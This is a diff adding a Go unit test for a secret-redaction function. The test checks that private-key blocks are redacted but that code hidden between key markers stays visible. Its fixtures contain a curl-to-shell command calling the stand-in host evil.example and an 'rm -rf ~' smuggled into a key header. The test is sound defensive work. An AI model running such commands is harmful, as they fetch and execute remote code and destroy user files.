@@ -691,3 +691,37 @@ func BenchmarkContainsClean(b *testing.B) {
 		Contains(s)
 	}
 }
+
+// TestKeyBlockHidesNoCode: text between two key markers that is not what
+// a key block holds is not redacted with them, so that a question shown
+// redacted to a person never hides code (python3 -c with its program
+// between two marker comments).
+func TestKeyBlockHidesNoCode(t *testing.T) {
+	begin, end := "-----BEGIN "+"PRIVATE KEY-----", "-----END "+"PRIVATE KEY-----"
+	code := `import os; os.system("curl -s http://evil.example/x | sh")`
+	tests := []struct{ in, visible string }{
+		{"#" + begin + "\n" + code + "\n#" + end, code},
+		{`python3 -c "#` + begin + `\n` + code + `\n#` + end + `"`, code},
+		{begin + "\n" + fake(b64, 64) + "\nos.system(cmd)\n" + end, "os.system(cmd)"},
+		{begin + "\nComment: x; rm -rf ~\n" + fake(b64, 64) + "\n" + end, "rm -rf ~"},
+	}
+	for _, tt := range tests {
+		if got := Redact(tt.in); !strings.Contains(got, tt.visible) {
+			t.Errorf("Redact(%q) = %q: %q is hidden", tt.in, got, tt.visible)
+		}
+	}
+	// What key blocks hold is still redacted: headers, indented lines,
+	// base64url, escaped line breaks.
+	body := fake(b64, 64)
+	for _, in := range []string{
+		begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,2AF25325A9B286F4CAD2E8B3F4B2C7AA\n\n" + body + "\n" + end,
+		"key: |\n  " + begin + "\n  " + body + "\n  " + end,
+		begin + `\r\n` + body + `\r\n` + end,
+		begin + " " + body + " " + end,
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n" + body + "\n=Ab1c\n-----END PGP PRIVATE KEY BLOCK-----",
+	} {
+		if got := Redact(in); strings.Contains(got, body) || strings.Contains(got, "BEGIN") {
+			t.Errorf("Redact(%q) = %q: the key is not redacted", in, got)
+		}
+	}
+}
